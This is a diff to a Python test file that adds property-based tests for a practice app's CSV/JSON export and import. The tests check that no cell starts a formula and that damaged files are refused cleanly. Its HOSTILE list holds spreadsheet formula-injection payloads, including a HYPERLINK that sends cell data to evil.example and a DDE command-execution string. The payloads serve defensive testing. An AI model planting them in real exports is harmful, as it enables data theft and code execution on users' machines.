@@ -9,12 +9,18 @@ import io
 import json
 import os
 import threading
+from datetime import datetime, timedelta
+from zoneinfo import ZoneInfo
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from tests.test_practice_cli import home, ok, vc  # noqa: F401 - the fixture
+from voice_coach.errors import SpecError
 from voice_coach.practice import exchange, import_file
 from voice_coach.practice.exchange import EXPORT_COLUMNS, formula_safe, unformula
+from voice_coach.practice.records import SessionRecord
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|'/C calc'!A0",
            "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1", "'=already quoted", "''+twice", "'plain"]
@@ -203,3 +209,42 @@ def test_a_fifo_is_refused_without_waiting_for_a_writer(tmp_path):
     threading.Thread(target=run, daemon=True).start()
     assert done.wait(30)
     assert errors == [f"{fifo} is a pipe (FIFO), not a file I can import"]
+
+
+# -- properties (hypothesis) -------------------------------------------------------------------
+
+NOTE_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
+                    max_size=300)
+
+
+def session(note: str, title: str = "Ankle pumps") -> SessionRecord:
+    started = datetime(2026, 11, 20, 9, 0, tzinfo=ZoneInfo("Europe/Berlin"))
+    return SessionRecord("a" * 32, "ankle-pumps", title, "", "en", "", started,
+                         started + timedelta(minutes=5), "Europe/Berlin", 3, 3, 30, 30,
+                         "completed", "done", None, 2, note)
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(note=NOTE_TEXT, title=st.sampled_from(["=1+1", "+x", "-", "@a", "'=b", "T", "\t=c"]))
+def test_any_note_survives_the_csv_round_trip_and_no_cell_starts_a_formula(note, title):
+    text = exchange.to_csv([session(note, title)])
+    for row in csv.reader(io.StringIO(text, newline="")):
+        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)
+    (back,) = exchange.from_csv(text, "h.csv")
+    assert back.note == note and back.title == title.strip()
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(data=st.data())
+def test_a_damaged_export_is_refused_with_located_errors_never_a_traceback(data):
+    good = exchange.to_csv([session("fine")]) if data.draw(st.booleans()) else \
+        exchange.to_json([session("fine")])
+    cut = data.draw(st.integers(0, len(good)))
+    junk = data.draw(st.text(max_size=40))
+    text = good[:cut] + junk + good[cut + data.draw(st.integers(0, 20)):]
+    try:
+        records = exchange.from_text(text, "h.x")
+    except SpecError as exc:
+        assert exc.diagnostics and all(d.line >= 1 and d.col >= 1 for d in exc.diagnostics)
+    else:
+        assert all(isinstance(r, SessionRecord) for r in records)
